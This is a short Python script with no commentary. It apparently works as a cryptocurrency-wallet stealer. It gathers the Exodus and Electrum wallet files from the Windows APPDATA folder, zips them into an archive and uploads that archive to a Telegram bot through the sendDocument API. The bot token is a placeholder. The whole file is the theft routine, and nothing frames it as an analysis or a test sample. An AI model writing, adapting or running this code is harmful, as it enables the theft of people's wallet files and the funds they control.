import os, zipfile, requests
paths = [os.getenv('APPDATA') + '\\Exodus\\exodus.wallet', os.getenv('APPDATA') + '\\Electrum\\wallets']
def pack():
    with zipfile.ZipFile('w.zip', 'w') as archive:
        for path in paths:
            for name in os.listdir(path):
                archive.write(os.path.join(path, name))
    requests.post('https://api.telegram.org/bot000:AAA/sendDocument', files={'document': open('w.zip', 'rb')})
